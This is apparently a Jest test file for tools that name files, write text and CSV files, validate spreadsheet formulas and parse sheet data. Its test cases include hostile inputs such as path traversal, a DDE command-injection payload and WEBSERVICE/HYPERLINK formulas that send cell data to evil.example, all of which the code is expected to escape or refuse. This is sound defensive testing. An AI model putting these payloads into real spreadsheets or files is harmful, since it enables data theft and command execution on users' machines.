import { describe, expect, it } from "@jest/globals";
import { ToolError } from "../tool.ts";
import { fileNameOf } from "./file-name.ts";
import { checkFormula } from "./formula.ts";
import { readSheets, sheetsInput } from "./sheet-input.ts";
import { writeTextFile } from "./text-file.ts";

describe("fileNameOf", () => {
  it.each([
    ["Report", "Report.pdf"],
    ["Report.PDF", "Report.pdf"],
    ["Report.docx", "Report.docx.pdf"],
    ["../../etc/passwd", "etc passwd.pdf"],
    ["C:\\temp\\a.pdf", "C temp a.pdf"],
    ["", "Document.pdf"],
    ["...", "Document.pdf"],
    ["con", "Document con.pdf"],
    ["nul.txt", "Document nul.txt.pdf"],
    ["a\u202Efdp.exe", "afdp.exe.pdf"],
    ["a\0\r\nb", "ab.pdf"],
    ['<"a|b?*">', "a b.pdf"],
    ["e\u0301t\uD800e\u0301", "été.pdf"],
    ["x".repeat(300), `${"x".repeat(80)}.pdf`],
    ["👍🏽".repeat(30), `${"👍🏽".repeat(20)}.pdf`],
  ])("writes %j as %j", (name, expected) => {
    expect(fileNameOf(name, "pdf")).toBe(expected);
  });
});

describe("writeTextFile", () => {
  const write = (name: string, content = "x", format?: string) => {
    const file = writeTextFile({ name, content, format });
    return [file.name, file.mime, Buffer.from(file.bytes).toString()];
  };

  it.each([
    ["notes.md", undefined, "notes.md", "text/markdown"],
    ["notes", undefined, "notes.txt", "text/plain"],
    ["notes", "markdown", "notes.md", "text/markdown"],
    ["Notes.MARKDOWN", undefined, "Notes.md", "text/markdown"],
    ["page.htm", undefined, "page.html", "text/html"],
    ["main.py", "txt", "main.py", "text/plain"],
    ["version 1.5", undefined, "version 1.5.txt", "text/plain"],
  ])("makes %s (%s) %s", (name, format, expected, mime) => {
    expect(write(name, "x", format).slice(0, 2)).toEqual([expected, mime]);
  });

  it.each([
    "run.bat",
    "run.exe",
    "a.lnk",
    "x.ps1",
    "a.scr",
    "a.reg",
    "a.md.exe",
    "report.pdf",
    "a.ex\u202Ee",
  ])("refuses %s", (name) => {
    expect(() => write(name)).toThrow(ToolError);
  });

  it("checks JSON, and removes what no editor shows", () => {
    expect(() => write("a.json", "{")).toThrow(/valid JSON/);
    expect(write("a.txt", "a\0b\x1B[31m\r\nc\uD800")[2]).toBe("ab[31m\nc\uFFFD");
  });

  it.each([
    ["a,b\n=1+1,-5", "a,b\n'=1+1,-5"],
    ['"=HYPERLINK(""x"",""y"")",1', '"\'=HYPERLINK(""x"",""y"")",1'],
    ["@sum;2", "'@sum;2"],
    ["+49 30 12,-1.5e3,+7 %", "+49 30 12,-1.5e3,+7 %"],
    ["-,—", "\uFEFF-,—"],
    ['a,"b\n=not the start","c"', 'a,"b\n=not the start","c"'],
    ["a\n\t=cmd|' /C calc'!A0", "a\n'\t=cmd|' /C calc'!A0"],
    ["ü,1", "\uFEFFü,1"],
  ])("writes CSV %j as %j", (content, expected) => {
    expect(write("a.csv", content)[2]).toBe(expected);
  });
});

describe("checkFormula", () => {
  it.each([
    ["=SUM(B2:B9)", "SUM(B2:B9)"],
    ["=if(a1>=2, \"a (b\", 'My sheet'!B2 * 1.5)", "IF(a1>=2, \"a (b\", 'My sheet'!B2 * 1.5)"],
    ["=XLOOKUP(A1,B:B,C:C)", "_xlfn.XLOOKUP(A1,B:B,C:C)"],
    ["=FILTER(A1:A9,B1:B9>1)", "_xlfn._xlws.FILTER(A1:A9,B1:B9>1)"],
    ['=A1&" "&B1', 'A1&" "&B1'],
    [
      `="it's ""HYPERLINK("" 'x'!"&'Anna''s, 2'!A1&Übersicht!A1`,
      `"it's ""HYPERLINK("" 'x'!"&'Anna''s, 2'!A1&Übersicht!A1`,
    ],
  ])("accepts %s", (formula, expected) => {
    expect(checkFormula(formula, "A1")).toBe(expected);
  });

  it.each([
    '=WEBSERVICE("https://evil.example/?"&A1)',
    '=HYPERLINK("https://evil.example","x")',
    '=IMAGE("https://evil.example")',
    "=cmd|'/C calc'!A0",
    "=[other.xlsx]Sheet1!A1",
    "='[other.xlsx]Sheet1'!A1",
    "='\\\\host\\share\\[a.xlsx]S'!A1",
    '=RTD("x",,"y")',
    "=_xlfn.WEBSERVICE(A1)",
    "=INDIRECT(A1)",
    "=SUM(A1",
    "=A1)+(1",
    `='a"b'!A1&HYPERLINK("http://evil.example/?"&A2)&'a"b'!A1`,
    `='a"b'!A1&_xlfn.WEBSERVICE("http://evil.example/?"&A2)&'a"b'!A1`,
    `='a"'!A1&WEBSERVICE(A2)&'"b'!A1`,
    `="a'"&HYPERLINK(A1)&"'!"`,
    "='a''!A1",
    "='a'&HYPERLINK(A1)&'b'!A1",
    "=HYPERLINK\u200B(A1)",
    "=HYPERLINKÉ(A1)",
    '="a',
    "=",
    "=1\0",
  ])("refuses %s", (formula) => {
    expect(() => checkFormula(formula, "A1")).toThrow(ToolError);
  });
});

describe("readSheets", () => {
  const read = (sheets: unknown) => readSheets(sheetsInput.parse(sheets));

  it("types values by their column, and leaves what only looks like numbers", () => {
    const [sheet] = read([
      {
        name: "Sales: [2026]",
        columns: ["day", "count", "code", { header: "share", type: "percentage" }, "flag", "total"],
        rows: [
          ["2026-02-28", "12.5", "007", "12.5 %", true, { formula: "=B2*2" }],
          ["2026-03-01", 3, "=1+1", 0.5, false, null],
        ],
      },
    ]);
    expect(sheet!.name).toBe("Sales 2026");
    expect(read([{ name: `'a"b'`, columns: ["x"], rows: [] }])[0]!.name).toBe("a b");
    expect(sheet!.columns.map(({ type }) => type)).toEqual([
      "date",
      "number",
      "text",
      "percent",
      "boolean",
      "text",
    ]);
    expect(sheet!.rows).toEqual([
      [
        { kind: "date", date: new Date("2026-02-28T00:00:00Z"), hasTime: false },
        { kind: "number", number: 12.5 },
        { kind: "text", text: "007" },
        { kind: "number", number: 0.125 },
        { kind: "boolean", boolean: true },
        { kind: "formula", formula: "B2*2" },
      ],
      [
        { kind: "date", date: new Date("2026-03-01T00:00:00Z"), hasTime: false },
        { kind: "number", number: 3 },
        { kind: "text", text: "=1+1" },
        { kind: "number", number: 0.5 },
        { kind: "boolean", boolean: false },
        null,
      ],
    ]);
  });

  it("accepts objects, a header row, one sheet alone and JSON; names are unique", () => {
    expect(
      read({ name: "a", rows: [{ x: 1, y: "z" }] })[0]!.columns.map(({ name }) => name),
    ).toEqual(["x", "y"]);
    expect(read(JSON.stringify([{ name: "a", rows: [["x"], [1]] }]))[0]!.rows).toEqual([
      [{ kind: "number", number: 1 }],
    ]);
    const names = read(
      ["Same", "same", "", "History", "x".repeat(40)].map((name) => ({
        name,
        columns: ["a"],
        rows: [],
      })),
    );
    expect(names.map(({ name }) => name)).toEqual([
      "Same",
      "same 2",
      "Sheet",
      "History sheet",
      "x".repeat(31),
    ]);
  });

  it("says what is too much, and which day doesn't exist stays text", () => {
    expect(() => read([{ name: "a", columns: ["x"], rows: [[1, 2]] }])).toThrow(
      /2 values, but there are 1/,
    );
    expect(() => read([{ name: "a", columns: ["x"], rows: [["x".repeat(32_768)]] }])).toThrow(
      /A2 of "a"/,
    );
    const wide = Array.from({ length: 500 }, (_, index) => `c${index}`);
    const tall = Array.from({ length: 2_001 }, () => []);
    expect(() => read([{ name: "a", columns: wide, rows: tall }])).toThrow(/1,000,500 cells/);
    expect(read([{ name: "a", columns: ["x"], rows: [["2026-02-30"]] }])[0]!.rows).toEqual([
      [{ kind: "text", text: "2026-02-30" }],
    ]);
  });
});
